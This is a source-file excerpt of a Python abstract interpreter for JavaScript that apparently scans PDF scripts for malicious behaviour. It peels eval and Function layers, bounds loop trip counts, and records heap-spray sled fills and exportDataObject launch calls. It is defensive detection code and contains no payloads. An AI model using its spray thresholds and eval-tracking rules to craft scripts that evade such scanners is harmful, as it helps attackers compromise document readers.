                    and finding.rule != "eval-computed-string"
                    and finding.rule not in layer.blocking_rules
                ):
                    layer.blocking_rules.append(finding.rule)
        try:
            layer.side_effect_apis = side_effect_apis(ctx)
        except Exception:  # noqa: BLE001 - fail-open: assume side effects
            layer.side_effect_apis = ["<analysis-error>"]
        return ctx


# ---------------------------------------------------------------------------
# The abstract interpreter proper


class _Interp:
    """Abstractly executes one layer's top-level code.

    Responsibilities: environment tracking, loop fixed points, trip
    bounds, eval peeling at reached sites, and fact recording (fills /
    exports).  Channel classification is the walker's job.
    """

    def __init__(
        self,
        engine: _Engine,
        program: ast.Program,
        depth: int,
        label: str,
    ) -> None:
        self.engine = engine
        self.program = program
        self.depth = depth
        self.label = label
        self.env: Dict[str, lat.AbsValue] = {}
        self.written: Set[str] = set()
        #: Names that were ever assigned an unknown (⊤) value — only
        #: these could alias a host object.  A declared, never-tainted
        #: name provably holds a layer-local value even when a join
        #: dropped it from the environment.
        self.tainted: Set[str] = set()
        #: Layer-level declarations (vars + function decls outside
        #: function bodies) — used for eval-shadowing checks.
        var_names, func_names = _scope_declared(program)
        self.declared = var_names | func_names
        self.declared_funcs = func_names
        (
            self.func_written,
            self.func_has_eval,
            self.func_has_throw,
        ) = _function_effects(program)
        self.must = True
        #: Latches — only ever flip one way; both kill later must-facts.
        self.aborted = False
        self.diverged = False
        #: While False (loop fixpoint iterations), facts are not
        #: recorded and eval sites havoc instead of peeling.
        self.record = True
        #: Trip-count lower bounds of enclosing recording-pass loops.
        self.trips: List[int] = []

    @property
    def must_now(self) -> bool:
        return self.must and not self.aborted and not self.diverged

    # -- environment -----------------------------------------------------

    def lookup(self, name: str) -> lat.AbsValue:
        value = self.env.get(name)
        return value if value is not None else lat.TOP

    def assign(self, name: str, value: lat.AbsValue) -> None:
        self.written.add(name)
        if value is lat.TOP:
            self.tainted.add(name)
            self.env.pop(name, None)
        else:
            self.env[name] = value

    def havoc(self, names: Set[str]) -> None:
        for name in names:
            self.written.add(name)
            self.tainted.add(name)
            self.env.pop(name, None)

    def havoc_all(self) -> None:
        self.written.update(self.env)
        self.tainted.update(self.declared)
        self.tainted.update(self.env)
        self.env.clear()

    # -- driver ----------------------------------------------------------

    def run(self) -> None:
        for statement in self.program.body:
            if isinstance(statement, ast.FunctionDeclaration):
                self.env[statement.name] = lat.AbsFunc(statement.name)
        for statement in self.program.body:
            self.exec_stmt(statement)

    # -- statements ------------------------------------------------------

    def exec_stmt(self, node: ast.Node) -> None:
        self.engine.budget.tick()
        if isinstance(node, ast.Block):
            for statement in node.statements:
                self.exec_stmt(statement)
        elif isinstance(node, ast.VarDeclaration):
            for name, init in node.declarations:
                value = (
                    self.eval_expr(init)
                    if init is not None
                    else lat.AbsConst(None)
                )
                self.assign(name, value)
                self._note_sled_assign(name, value)
        elif isinstance(node, ast.ExpressionStatement):
            self.eval_expr(node.expression)
        elif isinstance(node, ast.IfStatement):
            self._exec_if(node)
        elif isinstance(node, ast.WhileStatement):
            self._exec_while(node)
        elif isinstance(node, ast.DoWhileStatement):
            self._exec_dowhile(node)
        elif isinstance(node, ast.ForStatement):
            self._exec_for(node)
        elif isinstance(node, ast.ForInStatement):
            self._exec_forin(node)
        elif isinstance(node, ast.TryStatement):
            self._exec_try(node)
        elif isinstance(node, ast.SwitchStatement):
            self._exec_switch(node)
        elif isinstance(node, (ast.ReturnStatement, ast.ThrowStatement)):
            if getattr(node, "value", None) is not None:
                self.eval_expr(node.value)  # type: ignore[arg-type]
            self.aborted = True
        elif isinstance(node, ast.FunctionDeclaration):
            pass  # hoisted in run()
        elif isinstance(
            node,
            (ast.BreakStatement, ast.ContinueStatement, ast.EmptyStatement),
        ):
            pass
        else:  # unknown statement kind: havoc its writes, stay sound
            self.havoc(_written_names(node))

    def _exec_if(self, node: ast.IfStatement) -> None:
        test = self.eval_expr(node.test)
        taken = _truthiness(test)
        if taken is True:
            self.exec_stmt(node.consequent)
            return
        if taken is False:
            if node.alternate is not None:
                self.exec_stmt(node.alternate)
            return
        saved_must = self.must
        self.must = False
        entry = dict(self.env)
        self.exec_stmt(node.consequent)
        then_env = self.env
        self.env = dict(entry)
        if node.alternate is not None:
            self.exec_stmt(node.alternate)
        self.env = _join_env(then_env, self.env)
        self.written.update(set(entry) - set(self.env))
        self.must = saved_must

    def _fixpoint(self, step: Callable[[], None]) -> None:
        """Run ``step`` (one abstract loop iteration) to stabilisation:
        bounded joins, then widening, then one stabilising pass."""
        for _ in range(_MAX_JOIN_ITERS):
            before = dict(self.env)
            step()
            merged = _join_env(before, self.env)
            self.env = merged
            if merged == before:
                return
        before = dict(self.env)
        step()
        self.env = _widen_env(before, self.env)
        before = dict(self.env)
        step()
        self.env = _join_env(before, self.env)

    def _run_loop(
        self,
        step: Callable[[], None],
        trip_lo: int,
        terminates: bool,
    ) -> None:
        """Shared loop driver: fixpoint (no recording), one recording
        pass on the stabilised env, divergence accounting."""
        saved_record, self.record = self.record, False
        saved_must, self.must = self.must, False
        self._fixpoint(step)
        self.record = saved_record
        if self.record:
            stable = dict(self.env)
            self.trips.append(trip_lo)
            self.must = saved_must and trip_lo >= 1
            step()
            self.trips.pop()
            self.env = _join_env(stable, self.env)
        self.must = saved_must
        if not terminates:
            self.diverged = True

    def _exec_while(self, node: ast.WhileStatement) -> None:
        def step() -> None:
            self.eval_expr(node.test)
            self.exec_stmt(node.body)

        entry_env = dict(self.env)
        self._run_loop(
            step,
            trip_lo=0,
            terminates=self._doubling_terminates(node, entry_env),
        )
        if not _contains_abrupt(node.body):
            self._refine_exit(node.test)

    def _exec_dowhile(self, node: ast.DoWhileStatement) -> None:
        def step() -> None:
            self.exec_stmt(node.body)
            self.eval_expr(node.test)

        self._run_loop(
            step,
            trip_lo=1,
            terminates=False,
        )
        if not _contains_abrupt(node.body):
            self._refine_exit(node.test)

    def _exec_for(self, node: ast.ForStatement) -> None:
        if node.init is not None:
            if isinstance(node.init, ast.VarDeclaration):
                self.exec_stmt(node.init)
            else:
                self.eval_expr(node.init)
        trip_lo = self._trip_bound(node)

        def step() -> None:
            if node.test is not None:
                self.eval_expr(node.test)
            self.exec_stmt(node.body)
            if node.update is not None:
                self.eval_expr(node.update)

        self._run_loop(step, trip_lo=trip_lo, terminates=trip_lo >= 1)
        if node.test is not None and not _contains_abrupt(node.body):
            self._refine_exit(node.test)

    def _exec_forin(self, node: ast.ForInStatement) -> None:
        self.eval_expr(node.obj)
        if isinstance(node.target, ast.Identifier):
            self.assign(node.target.name, lat.TOP)
        elif isinstance(node.target, ast.VarDeclaration):
            for name, _init in node.target.declarations:
                self.assign(name, lat.TOP)

        def step() -> None:
            self.exec_stmt(node.body)

        self._run_loop(step, trip_lo=0, terminates=True)

    def _exec_try(self, node: ast.TryStatement) -> None:
        saved_must, self.must = self.must, False
        saved_aborted = self.aborted
        entry = dict(self.env)
        self.exec_stmt(node.block)
        if node.catch_block is not None:
            # The catch handler recovers control; its effects (and the
            # partially-executed block's) are covered by havocking every
            # name either may write.
            self.aborted = saved_aborted
            havocked = dict(entry)
            for name in _written_names(node.block) | _written_names(
                node.catch_block
            ):
                havocked.pop(name, None)
            self.env = _join_env(self.env, havocked)
        self.must = saved_must
        if node.finally_block is not None:
            self.exec_stmt(node.finally_block)

    def _exec_switch(self, node: ast.SwitchStatement) -> None:
        self.eval_expr(node.discriminant)
        saved_must, self.must = self.must, False
        entry = dict(self.env)
        written: Set[str] = set()
        for case in node.cases:
            if case.test is not None:
                self.eval_expr(case.test)
            # Execute each case body on a scratch copy (peels evals,
            # records non-must facts); the real env effect is a havoc.
            self.env = dict(entry)
            for statement in case.body:
                self.exec_stmt(statement)
                written |= _written_names(statement)
        self.env = dict(entry)
        self.havoc(written)
        self.must = saved_must

    # -- loop precision helpers ------------------------------------------

    def _trip_bound(self, node: ast.ForStatement) -> int:
        """Proven trip-count lower bound of a canonical counting loop;
        0 when unknown."""
        init = node.init
        test = node.test
        update = node.update
        if init is None or test is None or update is None:
            return 0
        # init: var i = c0  /  i = c0
        if isinstance(init, ast.VarDeclaration) and len(init.declarations) == 1:
            ivar, init_expr = init.declarations[0]
            if init_expr is None:
                return 0
        elif isinstance(init, ast.AssignmentExpression) and isinstance(
            init.target, ast.Identifier
        ):
            ivar, init_expr = init.target.name, init.value
        else:
            return 0
        start = lat.number_range(self.eval_expr(init_expr))
        if start is None or start.hi is None:
            return 0
        # test: i < N  /  i <= N
        if not (
            isinstance(test, ast.BinaryExpression)
            and test.op in ("<", "<=")
            and isinstance(test.left, ast.Identifier)
            and test.left.name == ivar
        ):
            return 0
        bound = lat.number_range(self.eval_expr(test.right))
        if bound is None or bound.lo is None:
            return 0
        # update: i++ / ++i / i += k / i = i + k   (k a positive const)
        step = self._step_of(update, ivar)
        if step is None or step <= 0:
            return 0
        # The body must not touch the counter or the bound's inputs and
        # must run to completion (no abrupt exits).
        if ivar in _written_names(node.body):
            return 0
        if _contains_abrupt(node.body):
            return 0
        bound_inputs = _expr_names(test.right)
        if bound_inputs & (_written_names(node.body) | {ivar}):
            return 0
        span = bound.lo - start.hi
        if test.op == "<=":
            span += 1.0
        if span <= 0 or math.isinf(span):
            return 0
        return int(math.ceil(span / step))

    def _step_of(self, update: ast.Node, ivar: str) -> Optional[float]:
        if isinstance(update, ast.UpdateExpression):
            if (
                isinstance(update.operand, ast.Identifier)
                and update.operand.name == ivar
            ):
                return 1.0 if update.op == "++" else -1.0
            return None
        if isinstance(update, ast.AssignmentExpression) and isinstance(
            update.target, ast.Identifier
        ):
            if update.target.name != ivar:
                return None
            if update.op == "+=":
                rng = lat.number_range(self.eval_expr(update.value))
                if rng is not None and rng.exact_value is not None:
                    return rng.exact_value
                return None
            if update.op == "=" and isinstance(
                update.value, ast.BinaryExpression
            ):
                value = update.value
                if value.op != "+":
                    return None
                for side, other in (
                    (value.left, value.right),
                    (value.right, value.left),
                ):
                    if isinstance(side, ast.Identifier) and side.name == ivar:
                        rng = lat.number_range(self.eval_expr(other))
                        if rng is not None and rng.exact_value is not None:
                            return rng.exact_value
                return None
        return None

    def _doubling_terminates(
        self, node: ast.WhileStatement, entry_env: Dict[str, lat.AbsValue]
    ) -> bool:
        """Provable termination for the canonical doubling idiom
        ``while (s.length < B) s += s`` with ``s`` non-empty at entry."""
        test = node.test
        if not (
            isinstance(test, ast.BinaryExpression)
            and test.op in ("<", "<=")
            and isinstance(test.left, ast.MemberExpression)
            and not test.left.computed
            and isinstance(test.left.prop, ast.Identifier)
            and test.left.prop.name == "length"
            and isinstance(test.left.obj, ast.Identifier)
        ):
            return False
        grown = test.left.obj.name
        bound = lat.number_range(self.eval_expr(test.right))
        if bound is None or bound.hi is None:
            return False
        if _contains_abrupt(node.body) or _written_names(node.body) != {grown}:
            return False
        from repro.jsast.rules import _self_appends

        if not _self_appends(node.body, grown):
            return False
        entry_len = lat.length_of(entry_env.get(grown, lat.TOP))
        return entry_len.lo is not None and entry_len.lo >= 1

    def _refine_exit(self, test: ast.Node) -> None:
        """At normal loop exit the test is false; refine lower bounds
        from ``¬(x < B)`` ⇒ ``x ≥ B``."""
        if not (
            isinstance(test, ast.BinaryExpression) and test.op in ("<", "<=")
        ):
            return
        bound = lat.number_range(self.eval_expr(test.right))
        if bound is None or bound.lo is None:
            return
        floor = bound.lo
        left = test.left
        # s.length < B  ⇒  s.length ≥ B afterwards.
        if (
            isinstance(left, ast.MemberExpression)
            and not left.computed
            and isinstance(left.prop, ast.Identifier)
            and left.prop.name == "length"
            and isinstance(left.obj, ast.Identifier)
        ):
            name = left.obj.name
            shape = lat.as_str_shape(self.env.get(name, lat.TOP))
            if shape is None:
                return
            length = shape.length.clamp_lo(floor)
            sled = shape.sled_chars
            if shape.kind == lat.SHAPE_REPEATED and shape.unit is not None:
                if lat.is_sled_unit(shape.unit):
                    sled = length  # a pure repeated sled is all sled
            self.env[name] = lat.AbsStr(
                shape.kind, length, unit=shape.unit, sled_chars=sled
            )
            return
        # i < N  ⇒  i ≥ N afterwards.
        if isinstance(left, ast.Identifier):
            current = lat.number_range(self.env.get(left.name, lat.TOP))
            if current is not None:
                self.env[left.name] = lat.AbsNum(current.clamp_lo(floor))

    # -- expressions -----------------------------------------------------

    def eval_expr(self, node: ast.Node) -> lat.AbsValue:
        self.engine.budget.tick()
        if isinstance(node, ast.NumberLiteral):
            return lat.AbsConst(float(node.value))
        if isinstance(node, ast.StringLiteral):
            return lat.AbsConst(node.value)
        if isinstance(node, ast.BooleanLiteral):
            return lat.AbsConst(node.value)
        if isinstance(node, (ast.NullLiteral, ast.UndefinedLiteral)):
            return lat.AbsConst(None)
        if isinstance(node, ast.ThisExpression):
            return lat.TOP
        if isinstance(node, ast.Identifier):
            return self.lookup(node.name)
        if isinstance(node, ast.ArrayLiteral):
            for element in node.elements:
                self.eval_expr(element)
            return lat.LOCAL_OBJ
        if isinstance(node, ast.ObjectLiteral):
            for _key, value in node.entries:
                self.eval_expr(value)
            return lat.LOCAL_OBJ
        if isinstance(node, ast.FunctionExpression):
            return lat.AbsFunc(node.name or "")
        if isinstance(node, ast.UnaryExpression):
            return self._eval_unary(node)
        if isinstance(node, ast.UpdateExpression):
            return self._eval_update(node)
        if isinstance(node, ast.BinaryExpression):
            return self._eval_binary(node)
        if isinstance(node, ast.LogicalExpression):
            return self._eval_logical(node)
        if isinstance(node, ast.ConditionalExpression):
            return self._eval_conditional(node)
        if isinstance(node, ast.AssignmentExpression):
            return self._eval_assignment(node)
        if isinstance(node, ast.SequenceExpression):
            value: lat.AbsValue = lat.AbsConst(None)
            for expression in node.expressions:
                value = self.eval_expr(expression)
            return value
        if isinstance(node, (ast.CallExpression, ast.NewExpression)):
            return self._eval_call(node)
        if isinstance(node, ast.MemberExpression):
            return self._eval_member(node)
        return lat.TOP

    def _eval_unary(self, node: ast.UnaryExpression) -> lat.AbsValue:
        operand = self.eval_expr(node.operand)
        if node.op in ("-", "+"):
            rng = lat.number_range(operand)
            if rng is None:
                return lat.TOP
            if node.op == "+":
                return lat.AbsNum(rng)
            lo = None if rng.hi is None else -rng.hi
            hi = None if rng.lo is None else -rng.lo
            return lat.AbsNum(lat.Interval(lo, hi))
        if node.op == "!":
            taken = _truthiness(operand)
            return lat.AbsConst(not taken) if taken is not None else lat.TOP
        if node.op == "void":
            return lat.AbsConst(None)
        if node.op == "typeof":
            return lat.AbsStr(lat.SHAPE_TEXT, lat.Interval(0.0, 16.0))
        return lat.TOP

    def _eval_update(self, node: ast.UpdateExpression) -> lat.AbsValue:
        operand = self.eval_expr(node.operand)
        rng = lat.number_range(operand)
        delta = 1.0 if node.op == "++" else -1.0
        if rng is None:
            updated: lat.AbsValue = lat.TOP
        else:
            updated = lat.AbsNum(rng.add(lat.Interval.exact(delta)))
            exact = lat.number_range(updated)
            if exact is not None and exact.exact_value is not None:
                updated = lat.AbsConst(exact.exact_value)
        if isinstance(node.operand, ast.Identifier):
            self.assign(node.operand.name, updated)
        return updated if node.prefix else operand

    def _eval_binary(self, node: ast.BinaryExpression) -> lat.AbsValue:
        left = self.eval_expr(node.left)
        right = self.eval_expr(node.right)
        return self._binary_value(node.op, left, right)

    def _binary_value(
        self, op: str, left: lat.AbsValue, right: lat.AbsValue
    ) -> lat.AbsValue:
        if op == "+":
            return self._abstract_add(left, right)
        lrng = lat.number_range(left)
        rrng = lat.number_range(right)
        if op in ("-", "*", "/", "%"):
            if (
                isinstance(left, lat.AbsConst)
                and isinstance(right, lat.AbsConst)
                and lrng is not None
                and rrng is not None
                and lrng.exact_value is not None
                and rrng.exact_value is not None
            ):
                a, b = lrng.exact_value, rrng.exact_value
                try:
                    if op == "-":
                        return lat.AbsConst(a - b)
                    if op == "*":
                        return lat.AbsConst(a * b)
                    if op == "/" and b != 0:
                        return lat.AbsConst(a / b)
                    if op == "%" and b != 0:
                        return lat.AbsConst(math.fmod(a, b))
                except (OverflowError, ValueError):
                    return lat.TOP
                return lat.TOP
            if lrng is not None and rrng is not None:
                if op == "-":
                    neg = lat.Interval(
                        None if rrng.hi is None else -rrng.hi,
                        None if rrng.lo is None else -rrng.lo,
                    )
                    return lat.AbsNum(lrng.add(neg))
                if op == "*":
                    return lat.AbsNum(lrng.mul_nonneg(rrng))
            return lat.TOP
        if op in ("<", "<=", ">", ">="):
            if lrng is not None and rrng is not None:
                flipped = op in (">", ">=")
                a, b = (rrng, lrng) if flipped else (lrng, rrng)
                strict = op in ("<", ">")
                # a < b (or a <= b): decide when the intervals separate.
                if a.hi is not None and b.lo is not None:
                    if a.hi < b.lo or (not strict and a.hi <= b.lo):
                        return lat.AbsConst(True)
                if a.lo is not None and b.hi is not None:
                    if a.lo > b.hi or (strict and a.lo >= b.hi):
                        return lat.AbsConst(False)
            return lat.TOP
        if op in ("==", "===", "!=", "!=="):
            if isinstance(left, lat.AbsConst) and isinstance(
                right, lat.AbsConst
            ):
                equal = left.value == right.value and type(left.value) is type(
                    right.value
                )
                return lat.AbsConst(
                    equal if op in ("==", "===") else not equal
                )
            return lat.TOP
        return lat.TOP

    def _abstract_add(
        self, left: lat.AbsValue, right: lat.AbsValue
    ) -> lat.AbsValue:
        if isinstance(left, lat.AbsConst) and isinstance(right, lat.AbsConst):
            lv, rv = left.value, right.value
            if isinstance(lv, str) or isinstance(rv, str):
                a, b = _js_text(lv), _js_text(rv)
                if len(a) + len(b) <= MAX_EXACT_CHARS:
                    return lat.AbsConst(a + b)
                sa, sb = lat.classify_string(a), lat.classify_string(b)
                return lat.concat(sa, sb)
            lrng, rrng = lat.number_range(left), lat.number_range(right)
            if lrng is not None and rrng is not None:
                if (
                    lrng.exact_value is not None
                    and rrng.exact_value is not None
                ):
                    return lat.AbsConst(lrng.exact_value + rrng.exact_value)
            return lat.TOP
        # Numeric addition when both sides are numeric.
        lrng, rrng = lat.number_range(left), lat.number_range(right)
        if lrng is not None and rrng is not None:
            return lat.AbsNum(lrng.add(rrng))
        # String-ish concatenation otherwise.
        if (
            lat.as_str_shape(left) is not None
            or lat.as_str_shape(right) is not None
        ):
            return lat.concat(left, right)
        return lat.TOP

    def _eval_logical(self, node: ast.LogicalExpression) -> lat.AbsValue:
        left = self.eval_expr(node.left)
        taken = _truthiness(left)
        if node.op == "&&":
            if taken is False:
                return left
            if taken is True:
                return self.eval_expr(node.right)
        else:
            if taken is True:
                return left
            if taken is False:
                return self.eval_expr(node.right)
        saved_must, self.must = self.must, False
        entry = dict(self.env)
        right = self.eval_expr(node.right)
        self.env = _join_env(entry, self.env)
        self.must = saved_must
        return lat.join_value(left, right)

    def _eval_conditional(
        self, node: ast.ConditionalExpression
    ) -> lat.AbsValue:
        test = self.eval_expr(node.test)
        taken = _truthiness(test)
        if taken is True:
            return self.eval_expr(node.consequent)
        if taken is False:
            return self.eval_expr(node.alternate)
        saved_must, self.must = self.must, False
        entry = dict(self.env)
        then_value = self.eval_expr(node.consequent)
        then_env = self.env
        self.env = dict(entry)
        else_value = self.eval_expr(node.alternate)
        self.env = _join_env(then_env, self.env)
        self.must = saved_must
        return lat.join_value(then_value, else_value)

    def _eval_assignment(self, node: ast.AssignmentExpression) -> lat.AbsValue:
        value = self.eval_expr(node.value)
        target = node.target
        if isinstance(target, ast.Identifier):
            if node.op != "=":
                old = self.lookup(target.name)
                value = self._binary_value(node.op[:-1], old, value)
            self.assign(target.name, value)
            self._note_sled_assign(target.name, value)
            return value
        if isinstance(target, ast.MemberExpression):
            obj = self.eval_expr(target.obj)
            if target.computed:
                self.eval_expr(target.prop)
            if (
                node.op == "="
                and target.computed
                and obj is lat.LOCAL_OBJ
                and isinstance(target.obj, ast.Identifier)
            ):
                self._record_fill(target.obj.name, value)
            return value
        return value

    def _note_sled_assign(self, name: str, value: lat.AbsValue) -> None:
        # End-of-layer env scanning catches surviving sleds; nothing to
        # do eagerly, but keep the hook for symmetry/debugging.
        return None

    def _record_fill(self, array: str, value: lat.AbsValue) -> None:
        """A ``m[e] = value`` store on a local array inside a loop."""
        if not self.record or not self.trips:
            return
        shape = lat.as_str_shape(value)
        if shape is None:
            return
        sled_lo = shape.sled_chars.lo or 0.0
        if isinstance(value, lat.AbsConst) and isinstance(value.value, str):
            sled_lo = lat.sled_prefix_of(value).lo or 0.0
        if sled_lo < SPRAY_LENGTH_THRESHOLD:
            return
        elem_lo = shape.length.lo or 0.0
        trip_lo = 1
        for trip in self.trips:
            trip_lo *= max(0, trip)
        bytes_lo = int(2 * elem_lo * trip_lo)
        self.engine.result.fills.append(
            SprayFill(
                array=array,
                layer=self.depth,
                unit=lat.sled_unit_of(value) or "",
                elem_len_lo=int(elem_lo),
                sled_lo=int(sled_lo),
                trip_lo=trip_lo,
                bytes_lo=bytes_lo,
                must=self.must_now,
            )
        )

    def _eval_member(self, node: ast.MemberExpression) -> lat.AbsValue:
        obj = self.eval_expr(node.obj)
        name = self._prop_name(node)
        if name == "length":
            shape = lat.as_str_shape(obj)
            if shape is not None:
                return lat.AbsNum(lat.length_of(obj))
            return lat.AbsNum(lat.NONNEG) if obj is lat.LOCAL_OBJ else lat.TOP
        if node.computed:
            index = self.eval_expr(node.prop)
            if (
                isinstance(obj, lat.AbsConst)
                and isinstance(obj.value, str)
                and isinstance(index, lat.AbsConst)
            ):
                rng = lat.number_range(index)
                if rng is not None and rng.exact_value is not None:
                    i = int(rng.exact_value)
                    if 0 <= i < len(obj.value):
                        return lat.AbsConst(obj.value[i])
                    return lat.AbsConst(None)
        return lat.TOP

    # -- calls -----------------------------------------------------------

    def _eval_call(self, node: ast.Node) -> lat.AbsValue:
        """CallExpression / NewExpression dispatch."""
        callee = node.callee  # type: ignore[attr-defined]
        arguments: List[ast.Node] = node.arguments  # type: ignore[attr-defined]
        if isinstance(callee, ast.Identifier):
            return self._call_named(node, callee.name, arguments)
        if isinstance(callee, ast.MemberExpression):
            return self._call_member(node, callee, arguments)
        # Computed/unknown callee: could alias eval — havoc everything.
        for argument in arguments:
            self.eval_expr(argument)
        self.havoc_all()
        self.aborted = True
        return lat.TOP

    def _call_named(
        self, node: ast.Node, name: str, arguments: List[ast.Node]
    ) -> lat.AbsValue:
        bound = self.env.get(name)
        if isinstance(bound, lat.AbsFunc) or (
            bound is None and name in self.declared_funcs
        ):
            return self._call_user_function(arguments)
        if name not in self.declared:
            if name == "eval":
                args = [self.eval_expr(a) for a in arguments]
                if not args:
                    return lat.AbsConst(None)
                return self._eval_site(node, args[-1], "eval")
            if name == "Function":
                args = [self.eval_expr(a) for a in arguments]
                if args:
                    # Constructing compiles but does not run the body;
                    # analyse it as a non-must layer.
                    self._eval_site(node, args[-1], "Function", ran=False)
                return lat.AbsFunc("Function")
            if name in PURE_CALLEES:
                return self._call_pure(name, arguments)
        # Unknown or shadowed global — may alias eval, may rebind
        # anything through the global object, may be undefined
        # (ReferenceError).
        for argument in arguments:
            self.eval_expr(argument)
        self.havoc_all()
        self.aborted = True
        return lat.TOP

    def _call_user_function(self, arguments: List[ast.Node]) -> lat.AbsValue:
        for argument in arguments:
            self.eval_expr(argument)
        if self.func_has_eval:
            self.havoc_all()
        else:
            self.havoc(set(self.func_written))
        if self.func_has_throw:
            self.aborted = True
        return lat.TOP

    def _call_pure(
        self, name: str, arguments: List[ast.Node]
    ) -> lat.AbsValue:
        args = [self.eval_expr(a) for a in arguments]
        first = args[0] if args else lat.AbsConst(None)
        if name == "unescape":
            if isinstance(first, lat.AbsConst) and isinstance(
                first.value, str
            ):
                try:
                    return lat.AbsConst(js_unescape(first.value))
                except Exception:  # noqa: BLE001 - hostile escape data
                    return lat.AbsStr(lat.SHAPE_TEXT, lat.NONNEG)
            return lat.AbsStr(lat.SHAPE_TEXT, lat.NONNEG)
        if name == "escape":
            return lat.AbsStr(lat.SHAPE_TEXT, lat.NONNEG)
        if name in ("parseInt", "parseFloat", "Number"):
            if isinstance(first, lat.AbsConst):
                parsed = _parse_number(name, first.value, args)
                if parsed is not None:
                    return lat.AbsConst(parsed)
            return lat.AbsNum(lat.Interval.top())
        if name == "String":
            if isinstance(first, lat.AbsConst):
                return lat.AbsConst(_js_text(first.value))
            shape = lat.as_str_shape(first)
            return shape if shape is not None else lat.AbsStr(
                lat.SHAPE_TEXT, lat.NONNEG
            )
        if name == "Boolean":
            taken = _truthiness(first)
            return lat.AbsConst(taken) if taken is not None else lat.TOP
        if name in ("Array", "Object"):
            return lat.LOCAL_OBJ
        if name in ("isNaN", "isFinite"):
            return lat.TOP
        return lat.TOP

    def _call_member(
        self,
        node: ast.Node,
        callee: ast.MemberExpression,
        arguments: List[ast.Node],
    ) -> lat.AbsValue:
        method = self._prop_name(callee)
        receiver = self.eval_expr(callee.obj)
        args = [self.eval_expr(a) for a in arguments]

        # String.fromCharCode(...)
        if (
            method == "fromCharCode"
            and isinstance(callee.obj, ast.Identifier)
            and callee.obj.name == "String"
            and "String" not in self.declared
        ):
            return _from_char_code(args)

        # Methods on known-local values (strings, arrays, consts).
        if lat.as_str_shape(receiver) is not None and method is not None:
            return self._string_method(receiver, method, args)
        if receiver is lat.LOCAL_OBJ:
            # Local array/object methods (push, join, sort, ...) touch
            # no host API, but a method *could* be a stored function
            # expression — account for its body's effects.
            if self.func_has_eval:
                self.havoc_all()
            else:
                self.havoc(set(self.func_written))
            if self.func_has_throw:
                self.aborted = True
            # LOCAL_OBJ conflates arrays and object literals: the
            # method may not exist on this receiver → TypeError.  The
            # abort latch only weakens later must-facts; it never
            # blocks a benign proof.
            self.aborted = True
            if method == "join":
                return lat.AbsStr(lat.SHAPE_TEXT, lat.NONNEG)
            return lat.TOP

        path = self._abs_member_path(callee)
        if path is not None:
            last = path.rsplit(".", 1)[-1]
            if last in _EVAL_METHODS or (
                last in _WRITE_METHODS and "document" in path.split(".")
            ):
                if args:
                    return self._eval_site(node, args[-1], path)
                return lat.AbsConst(None)
            if last == "exportDataObject":
                self._record_export(node, path, arguments)
            # Resolved host API call: returns an unknown value, rebinds
            # nothing (runtime model) — channels are the walker's job.
            return lat.TOP
        # Unresolved member callee on an unknown receiver: could alias
        # eval through the global object.
        self.havoc_all()
        return lat.TOP

    def _string_method(
        self,
        receiver: lat.AbsValue,
        method: str,
        args: List[lat.AbsValue],
    ) -> lat.AbsValue:
        exact = (
            receiver.value
            if isinstance(receiver, lat.AbsConst)
            and isinstance(receiver.value, str)
            else None
        )
        const_args: Optional[List[lat.Const]] = []
        for arg in args:
            if isinstance(arg, lat.AbsConst):
                const_args.append(arg.value)
            else:
                const_args = None
                break
        if exact is not None and const_args is not None:
            folded = _fold_string_method(exact, method, const_args)
            if folded is not None:
                return folded
        # Abstract prefix slicing: substring/substr/slice from 0.
        if method in ("substring", "substr", "slice"):
            start = lat.number_range(args[0]) if args else lat.ZERO
            if start is not None and start.exact_value == 0.0:
                if len(args) > 1:
                    count = lat.number_range(args[1])
                    if count is not None and count.lo is not None:
                        return lat.prefix_slice(receiver, count)
                else:
                    shape = lat.as_str_shape(receiver)
                    if shape is not None:
                        return shape
            shape = lat.as_str_shape(receiver)
            length = shape.length if shape is not None else lat.NONNEG
            return lat.AbsStr(
                lat.SHAPE_TEXT, lat.Interval(0.0, length.hi)
            )
        if method in ("charAt", "charCodeAt"):
            return lat.TOP
        if method == "concat":
            value: lat.AbsValue = receiver
            for arg in args:
                value = self._abstract_add(value, arg)
            return value
        if method in ("toLowerCase", "toUpperCase", "replace", "split"):
            return lat.AbsStr(lat.SHAPE_TEXT, lat.NONNEG)
        if method in ("indexOf", "lastIndexOf", "search"):
            return lat.AbsNum(lat.Interval(-1.0, None))
        # Unknown string method: may not exist → TypeError at runtime.
        self.aborted = True
        return lat.TOP

    def _prop_name(self, member: ast.MemberExpression) -> Optional[str]:
        if not member.computed and isinstance(member.prop, ast.Identifier):
            return member.prop.name
        if member.computed:
            value = self.eval_expr(member.prop)
            if isinstance(value, lat.AbsConst) and isinstance(
                value.value, str
            ):
                return value.value
        return None

    def _abs_member_path(
        self, member: ast.MemberExpression
    ) -> Optional[str]:
        """Dotted path of a member chain whose root is a host object
        (``this`` or an undeclared global); ``None`` otherwise."""
        parts: List[str] = []
        current: ast.Node = member
        while isinstance(current, ast.MemberExpression):
            name = self._prop_name(current)
            if name is None:
                return None
            parts.append(name)
            current = current.obj
        if isinstance(current, ast.Identifier):
            if current.name in self.declared or current.name in self.env:
                return None
            parts.append(current.name)
        elif not isinstance(current, ast.ThisExpression):
            return None
        parts.reverse()
        return ".".join(parts)

    def _record_export(
        self, node: ast.Node, path: str, arguments: List[ast.Node]
    ) -> None:
        if not self.record or id(node) in self.engine.handled_exports:
            return
        self.engine.handled_exports.add(id(node))
        launch: Optional[float] = None
        name: Optional[str] = None
        if arguments and isinstance(arguments[0], ast.ObjectLiteral):
            for key, value_node in arguments[0].entries:
                value = self.eval_expr(value_node)
                if isinstance(value, lat.AbsConst):
                    if key == "nLaunch" and isinstance(value.value, float):
                        launch = value.value
                    elif key == "cName" and isinstance(value.value, str):
                        name = value.value
        self.engine.result.exports.append(
            ExportFact(
                path=path,
                layer=self.depth,
                launch=launch,
                name=name,
                must=self.must_now,
            )
        )

    # -- eval peeling ----------------------------------------------------

    def _eval_site(
        self,
        node: ast.Node,
        arg: lat.AbsValue,
        label: str,
        ran: bool = True,
    ) -> lat.AbsValue:
        """An eval-family call with abstract argument ``arg``."""
        # eval of a non-string value returns it unchanged.
        if isinstance(arg, lat.AbsConst) and not isinstance(arg.value, str):
            return arg
        if not self.record:
            # Mid-fixpoint: defer peeling to the recording pass, stay
            # sound by assuming the layer may write anything.
            self.havoc_all()
            return lat.TOP
        if isinstance(arg, lat.AbsConst) and isinstance(arg.value, str):
            self.engine.handled_evals.add(id(node))
            written, may_abort = self.engine.analyze_layer(
                arg.value,
                self.depth + 1,
                self.must_now and ran,
